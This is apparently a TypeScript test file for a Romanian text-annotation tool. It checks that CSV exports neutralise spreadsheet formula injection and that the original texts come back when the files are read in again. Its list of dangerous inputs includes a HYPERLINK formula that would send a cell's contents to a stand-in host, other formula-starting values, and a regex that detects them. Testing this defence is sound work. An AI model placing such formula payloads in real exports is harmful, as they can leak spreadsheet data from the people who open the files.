// Every CSV we write is safe to open in a spreadsheet (no cell starts a formula), is UTF-8 with a BOM, and gives back
// the original text when it is imported again: the annotation output, export-labels, a comparison's results.csv.
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { neutralizeFormula, restoreFormula } from "../../contract/csvCell";
import type { HumanLabel } from "../../contract/threads";
import { importFiles, type RawRecord } from "../../corpus/pipeline/import/index";
import { annotateFile } from "../../server/annotation/annotateFile";
import { readOutput, readTable } from "../../server/annotation/files";
import { labelsAs } from "../../server/cli/exportLabels";
import { CSV_COLUMNS, rowsCsv } from "../../server/compare/report";
import type { ResultRow } from "../../server/compare/runner";
import { csvDocument, csvRecord } from "../../server/export/csv";
import { testConfig } from "../support/fixtures";

/** Texts a spreadsheet would run as formulas, and near misses that must stay as they are. */
const DANGEROUS = [
  '=HYPERLINK("http://exemplu.ro/?date="&A1;"Apăsați aici")',
  "+1",
  "-2 pentru guvern",
  "@user ce mai faceți?",
  "\tcu tab în față",
  "\rcu CR în față",
  "＝SUM(A1)",
  "'=deja cu apostrof",
  "''+două apostrofuri",
];
const HARMLESS = [
  "Guvernul minte",
  "'citat fără formulă",
  "'",
  "",
  "a=b",
  " =cu spațiu",
  "2-1",
  "email@x.ro",
];

/** Every cell of a CSV as a spreadsheet reads it (no apostrophe removed). */
function rawCells(csv: string): string[] {
  return (parse(csv, { bom: true, relax_column_count: true }) as string[][]).flat();
}

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe("the formula rule of a CSV cell", () => {
  it("prefixes an apostrophe to a cell that would start a formula, and only to such a cell", () => {
    expect(neutralizeFormula('=HYPERLINK("x")')).toBe(`'=HYPERLINK("x")`);
    expect(neutralizeFormula("+1")).toBe("'+1");
    expect(neutralizeFormula("-2 pentru guvern")).toBe("'-2 pentru guvern");
    expect(neutralizeFormula("@user")).toBe("'@user");
    expect(neutralizeFormula("'=a")).toBe("''=a");
    for (const text of HARMLESS) expect(neutralizeFormula(text)).toBe(text);
  });

  it("gives back every text the writer changed, and leaves every other text alone", () => {
    for (const text of [...DANGEROUS, ...HARMLESS]) {
      expect(restoreFormula(neutralizeFormula(text))).toBe(text);
      expect(FORMULA_START.test(neutralizeFormula(text))).toBe(false);
    }
    // A reader removes an apostrophe only before a formula character.
    expect(restoreFormula("'citat")).toBe("'citat");
    expect(restoreFormula("'-2")).toBe("-2");
  });
});

describe("the CSV writer", () => {
  it("writes a BOM, the header and RFC 4180 records, text cells neutralised and numbers left as numbers", () => {
    const csv = csvDocument(
      ["id", "text", "score", "ok", "list"],
      [["a", "-2 pentru guvern", -2, true, ["@x"]]],
    );
    expect(csv.startsWith("\ufeffid,text,score,ok,list\n")).toBe(true);
    expect(csv.slice(1).split("\n")[1]).toBe(`a,'-2 pentru guvern,-2,true,"[""@x""]"`);
  });

  it("quotes line breaks of either kind and leading or trailing blanks", () => {
    const record = csvRecord(["rând\nnou", "cu\rCR", " spațiu", "spațiu ", null, undefined, false]);
    expect(record).toBe(`"rând\nnou","cu\rCR"," spațiu","spațiu ",,,false\n`);
    expect(parse(record)).toEqual([["rând\nnou", "cu\rCR", " spațiu", "spațiu ", "", "", "false"]]);
  });
});

describe("an export imported again", () => {
  let dir = "";
  beforeEach(() => {
    dir = mkdtempSync(path.join(os.tmpdir(), "echochamber-csv-"));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  it("annotate --out *.csv: no formula in the file, the texts back through every reader", async () => {
    const input = path.join(dir, "comentarii.jsonl");
    writeFileSync(input, DANGEROUS.map((text, i) => JSON.stringify({ id: `c${i}`, text }) + "\n").join(""));
    const output = path.join(dir, "adnotari.csv");
    const summary = await annotateFile({
      input,
      output,
      model: "offline:lexicon",
      config: testConfig({ DATA_DIR: dir }),
      cache: false,
    });
    expect(summary.written).toBe(DANGEROUS.length);

    const content = readFileSync(output, "utf8");
    expect(content.startsWith("\ufeff")).toBe(true);
    expect(rawCells(content).filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    expect(readOutput(output, "csv").rows.map((r) => r.text)).toEqual(DANGEROUS);
    expect(readTable(output).rows.map((r) => r.text)).toEqual(DANGEROUS);

    // A rerun reads the file back and writes nothing twice, nor an apostrophe more.
    const again = await annotateFile({
      input,
      output,
      model: "offline:lexicon",
      config: testConfig({ DATA_DIR: dir }),
      cache: false,
    });
    expect(again).toMatchObject({ skipped: DANGEROUS.length, written: 0 });
    expect(readFileSync(output, "utf8")).toBe(content);
  });

  it("export-labels as CSV, then `import`: the corpus records hold the original texts", async () => {
    const labels: HumanLabel[] = DANGEROUS.map((text, i) => ({
      id: `l${i}`,
      messageId: "m1",
      target: "message",
      text,
      annotation: {
        ton: "negativ",
        populism: false,
        anti_elitism: false,
        popor_central: false,
        tema: "altele",
        tinta: null,
        incredere: 0.5,
        justificare: "-cu minus în față",
        dovezi: [],
      },
      correctedModel: "offline:lexicon",
      annotator: "@ana",
      codebookVersion: "1.0.0",
      createdAt: "2026-01-01T10:00:00.000Z",
    }));
    const csv = labelsAs(labels, "csv");
    expect(csv.startsWith("\ufeff")).toBe(true);
    expect(rawCells(csv).filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    const file = path.join(dir, "etichete.csv");
    writeFileSync(file, csv);

    // As gold for `evaluate` (the annotation reader) and as a corpus file (the importer).
    const gold = readTable(file).rows;
    expect(gold.map((r) => [r.text, r.annotator, r.justificare])).toEqual(
      DANGEROUS.map((text) => [text, "@ana", "-cu minus în față"]),
    );
    const { results, failures } = await importFiles([file], { corpusDir: dir, textCol: "text", idCol: "id" });
    expect(failures).toEqual([]);
    const records = readFileSync(results[0]!.output, "utf8")
      .split("\n")
      .filter(Boolean)
      .map((line) => JSON.parse(line) as RawRecord);
    expect(records.map((r) => r.text)).toEqual(DANGEROUS);
  });

  it("a comparison's results.csv: answers are neutralised in the file and read back whole", () => {
    const row = (text: string, i: number): ResultRow => ({
      caseId: `caz${i}`,
      criterion: "romana",
      kind: "prompt",
      model: "offline:extractive",
      temperature: 0,
      run: 1,
      status: "ok",
      pass: true,
      score: 1,
      text,
      annotation: null,
      latencyMs: 12,
      ttftMs: 3,
      inputTokens: null,
      outputTokens: null,
      costUsd: null,
      finishReason: "stop",
      refused: false,
      jsonValid: null,
      assertions: [],
      error: null,
    });
    const csv = rowsCsv(DANGEROUS.map(row));
    expect(csv.startsWith("\ufeff")).toBe(true);
    expect(rawCells(csv).filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    const file = path.join(dir, "results.csv");
    writeFileSync(file, csv);
    const table = readTable(file);
    expect(table.columns).toEqual([...CSV_COLUMNS]);
    expect(table.rows.map((r) => r.answer)).toEqual(DANGEROUS);
  });
});
